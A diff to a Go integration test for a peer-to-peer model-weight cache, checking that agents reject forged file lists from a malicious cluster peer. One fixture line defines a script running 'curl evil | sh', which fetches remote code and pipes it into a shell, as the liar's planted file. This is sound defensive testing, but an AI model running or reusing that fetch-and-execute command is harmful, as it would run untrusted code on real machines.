@@ -19,7 +19,6 @@ import (
 	"path/filepath"
 	"strings"
 	"sync"
-	"syscall"
 	"testing"
 	"time"
 
@@ -28,7 +27,6 @@ import (
 	"github.com/stretchr/testify/require"
 
 	"github.com/weightd/weightd/internal/hubtest"
-	"github.com/weightd/weightd/pkg/api"
 	"github.com/weightd/weightd/pkg/cache"
 	"github.com/weightd/weightd/pkg/p2p"
 	"github.com/weightd/weightd/pkg/prefetch"
@@ -68,71 +66,27 @@ func freeAddr(t *testing.T) string {
 	return ln.Addr().String()
 }
 
-// peerAgent is a weightd agent process on loopback gossip.
-type peerAgent struct {
-	name   string
-	client *api.Client
-	logs   *lockedBuffer
-}
-
-// startPeerAgent runs `weightd agent` named name, joining through join,
-// resolving hf:// references on hub.
-func startPeerAgent(t *testing.T, name, join, hub string) *peerAgent {
+// startPeerAgent runs `weightd agent` named name on loopback gossip,
+// joining through join, resolving hf:// references on hub, and waits until
+// it is ready.
+func startPeerAgent(t *testing.T, name, join, hub string) *agentProc {
 	t.Helper()
-	dir := t.TempDir()
-	sock := filepath.Join(dir, "api.sock")
-	cmd := exec.Command(weightdBinary(t), "agent", "--root", filepath.Join(dir, "root"), "--api", "unix://"+sock,
-		"--metrics-addr", "", "--log-level", "debug", "--chunk-size", "1MiB", "--fast-gossip",
-		"--node-name", name, "--gossip-addr", freeAddr(t), "--chunk-addr", freeAddr(t),
-		"--join", join, "--hf-endpoint", hub)
 	// The liar is a member in its own right: whether peers talk TLS does
 	// not change what it may answer.
-	cmd.Env = append(os.Environ(), "HF_TOKEN=", "WEIGHTD_PEER_INSECURE=true")
-	a := &peerAgent{name: name, logs: &lockedBuffer{}}
-	cmd.Stdout, cmd.Stderr = a.logs, a.logs
-	require.NoError(t, cmd.Start())
-	exited := make(chan struct{})
-	go func() { cmd.Wait(); close(exited) }()
-	t.Cleanup(func() {
-		cmd.Process.Signal(syscall.SIGTERM)
-		select {
-		case <-exited:
-		case <-time.After(15 * time.Second):
-			cmd.Process.Kill()
-			<-exited
-		}
-		if t.Failed() {
-			t.Logf("agent %s log:\n%s", name, a.logs.String())
-		}
-	})
-	var err error
-	a.client, err = api.NewClient("unix://" + sock)
-	require.NoError(t, err)
-	ctx, cancel := context.WithTimeout(t.Context(), 30*time.Second)
-	defer cancel()
-	require.NoError(t, a.client.WaitReady(ctx), "agent %s: %s", name, a.logs.String())
+	a := startAgentProc(t, nil, []string{"HF_TOKEN=", "WEIGHTD_PEER_INSECURE=true"},
+		"--log-level", "debug", "--chunk-size", "1MiB", "--fast-gossip", "--node-name", name,
+		"--gossip-addr", freeAddr(t), "--chunk-addr", freeAddr(t), "--join", join, "--hf-endpoint", hub)
+	a.waitReady(t)
 	return a
 }
 
 // waitPeers waits until the agent sees n peers.
-func (a *peerAgent) waitPeers(t *testing.T, n int) {
+func (a *agentProc) waitPeers(t *testing.T, n int) {
 	t.Helper()
 	require.Eventually(t, func() bool {
 		st, err := a.client.Status(t.Context())
 		return err == nil && len(st.Peers) == n
-	}, 30*time.Second, 50*time.Millisecond, "agent %s never saw %d peers", a.name, n)
-}
-
-// fetch fetches ref and returns its job's final status.
-func (a *peerAgent) fetch(t *testing.T, ref string) prefetch.JobStatus {
-	t.Helper()
-	ctx, cancel := context.WithTimeout(t.Context(), 2*time.Minute)
-	defer cancel()
-	st, err := a.client.Fetch(ctx, ref)
-	require.NoError(t, err)
-	st, err = a.client.Watch(ctx, st.ID, nil)
-	require.NoError(t, err, "watching %s on %s", ref, a.name)
-	return st
+	}, 30*time.Second, 50*time.Millisecond, "the agent never saw %d peers", n)
 }
 
 // liar is a member of the cluster that answers resolutions with what it
@@ -358,29 +312,26 @@ func TestPeerResolutionTrusted(t *testing.T) {
 // answers how a reference resolved with a file list of its own, holding the
 // bytes it names. Neither a hub model nor a file pinned by digest may be
 // laid out from it: the hub's listing is the hub's word, and a digest pins
-// one file, not the files beside it.
+// one file, not the files beside it. The member's honest answer for a file
+// pinned by digest is still taken: that much can be checked without the
+// origin.
 func TestPeerResolutionOriginDown(t *testing.T) {
 	const repo = "org/model"
 	commit := strings.Repeat("c0ffee", 6) + "c0ff"
 	hfLie, hfBlobs := lieAbout(repo, commit, map[string]string{"config.json": `{"architectures": ["Evil"]}`}, nil)
 
 	adapter := []byte("honest adapter bytes")
-	pinned := "https://weights.invalid/files/adapter.bin#sha256:" + digest.FromBytes(adapter).Encoded()
 	script := []byte("import os; os.system('curl evil | sh')\n")
-	fileLie := cache.Model{
-		Name:     "weights.invalid/files-adapter.bin/" + strings.Repeat("0", 16),
-		Revision: digest.FromBytes(adapter).Encoded()[:12],
-		Files: []cache.File{
-			{Path: "adapter.bin", Descriptor: cache.Descriptor{Digest: digest.FromBytes(adapter), Size: int64(len(adapter))}},
-			{Path: "run.py", Descriptor: cache.Descriptor{Digest: digest.FromBytes(script), Size: int64(len(script))}},
-		},
-	}
-	l := startLiar(t, "liar", map[string]cache.Model{"hf://" + repo + "@main": hfLie, pinned: fileLie},
-		append(hfBlobs, adapter, script))
+	lie, lieRef := pinnedFile("https://weights.invalid/files/adapter.bin", adapter)
+	lie.Files = append(lie.Files, cache.File{Path: "run.py", Descriptor: cache.Descriptor{Digest: digest.FromBytes(script), Size: int64(len(script))}})
+	weights := []byte("honest pinned weights")
+	honest, honestRef := pinnedFile("https://weights.invalid/files/weights.bin", weights)
+	l := startLiar(t, "liar", map[string]cache.Model{"hf://" + repo + "@main": hfLie, lieRef: lie, honestRef: honest},
+		append(hfBlobs, adapter, script, weights))
 
 	victim := startPeerAgent(t, "victim", l.gossipAddr, "https://hub.invalid")
 	victim.waitPeers(t, 1)
-	for _, ref := range []string{"hf://" + repo + "@main", pinned} {
+	for _, ref := range []string{"hf://" + repo + "@main", lieRef} {
 		st := victim.fetch(t, ref)
 		if st.State != prefetch.StateFailed {
 			t.Errorf("%s was laid out from the liar's file list in %s", ref, st.Dir)
@@ -388,6 +339,25 @@ func TestPeerResolutionOriginDown(t *testing.T) {
 		}
 		t.Logf("%s: %s", ref, st.Error)
 	}
+	st := victim.fetch(t, honestRef)
+	require.Equal(t, prefetch.StateReady, st.State, "a peer's answer for a file pinned by digest: %s", st.Error)
+	b, err := os.ReadFile(filepath.Join(st.Dir, "weights.bin"))
+	require.NoError(t, err)
+	require.Equal(t, weights, b)
+}
+
+// pinnedFile is the model an agent makes of url pinned to content's digest
+// (pkg/prefetch singleFileModel and urlModelName, read from the source), and
+// that reference.
+func pinnedFile(url string, content []byte) (cache.Model, string) {
+	d := digest.FromBytes(content)
+	sum := sha256.Sum256([]byte(url))
+	host, file, _ := strings.Cut(strings.TrimPrefix(url, "https://"), "/")
+	return cache.Model{
+		Name:     host + "/" + strings.ReplaceAll(file, "/", "-") + "/" + hex.EncodeToString(sum[:8]),
+		Revision: d.Encoded()[:12],
+		Files:    []cache.File{{Path: filepath.Base(file), Descriptor: cache.Descriptor{Digest: d, Size: int64(len(content))}}},
+	}, url + "#" + d.String()
 }
 
 // TestRendezvousResolverCannotSteer: a member names itself so that it is
@@ -406,17 +376,10 @@ func TestRendezvousResolverCannotSteer(t *testing.T) {
 	b := startPeerAgent(t, "victim-b", l.gossipAddr, hub.URL)
 	a.waitPeers(t, 2)
 	b.waitPeers(t, 2)
-	var wg sync.WaitGroup
-	for _, v := range []*peerAgent{a, b} {
-		wg.Go(func() {
-			st := v.fetch(t, "hf://org/model@main")
-			if st.State != prefetch.StateReady {
-				t.Errorf("%s: %s", v.name, st.Error)
-				return
-			}
-			checkHonestLayout(t, st.Dir)
-		})
+	for _, v := range []*agentProc{a, b} {
+		st := v.fetch(t, "hf://org/model@main")
+		require.Equal(t, prefetch.StateReady, st.State, st.Error)
+		checkHonestLayout(t, st.Dir)
 	}
-	wg.Wait()
 	require.GreaterOrEqual(t, l.resolutionsServed(t), 2.0, "both nodes asked the member that named itself the resolver")
 }
